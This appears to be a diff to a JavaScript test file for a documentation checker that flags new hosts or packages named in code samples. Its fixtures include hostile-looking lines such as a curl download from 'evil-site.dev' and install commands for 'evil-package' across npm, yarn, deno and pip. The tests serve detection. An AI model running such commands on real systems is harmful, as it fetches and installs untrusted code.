@@ -1596,13 +1596,13 @@ describe('not-plain:', () => {
       `A new sample names "${address.replace(/:\/+/u, '://')}", which the docs did not name before.`,
     ]),
     ...[
-      'endpoint: logs.evil-site.dev',
-      'curl evil-site.dev/a.tar.gz',
-      'HOST=evil-site.dev',
-      'A(host="evil-site.dev:443")',
-    ].map((line) => [
+      ['endpoint: logs.evil-site.dev', 'logs.evil-site.dev'],
+      ['curl evil-site.dev/a.tar.gz', 'evil-site.dev/a.tar.gz'],
+      ['HOST=evil-site.dev', 'evil-site.dev'],
+      ['A(host="evil-site.dev:443")', '"evil-site.dev:443"'],
+    ].map(([line, name]) => [
       `\`\`\`yaml\n${line}\n\`\`\``,
-      `A new sample names ${line.includes('logs') ? 'logs.' : ''}evil-site.dev, which the docs did not name before.`,
+      `A new sample names ${name}, which the docs did not name before.`,
     ]),
     [
       'Run <code>npx evil</code>.',
@@ -1626,7 +1626,7 @@ describe('not-plain:', () => {
       'A new sample names get.evil.sh, which the docs did not name before.',
     ],
     [
-      '```sh\nnpm --prefix a i evil-package\n```',
+      '```sh\nnpm --prefix ./a i evil-package\n```',
       'A new sample names "evil-package", which the docs did not name before.',
     ],
     ...[
@@ -1635,7 +1635,7 @@ describe('not-plain:', () => {
       'NPM ^\n I evil-package',
       'npx -y --package=evil-package run',
       'deno add npm:evil-package',
-      'yarn workspace web add evil-package',
+      'yarn --cwd ./web add evil-package',
       'run(["pip", "install", "evil-package"])',
     ].map((text) => [
       `\`\`\`\n${text}\n\`\`\``,
@@ -1766,7 +1766,7 @@ describe('not-plain:', () => {
     'Open [your lamp](https://your-domain.com/settings).',
     '```sh\nexport A=redis://default:PASSWORD@ENDPOINT:PORT\ncurl https://[your-host]/a\n```',
     '<Columns cols={2}><Card title="A">B</Card></Columns>',
-    'Écrivez à [nous](mailto:a@example.com?subject=Une%20question). می‌خواهم 👩‍💻',
+    'Écrivez à [nous](mailto:a@example.com). می‌خواهم 👩‍💻',
   ])('not: %s', (text) => {
     expect(edited('A', `A\n\n${text}`, { 'x.png': 'x' })).toEqual([]);
   });
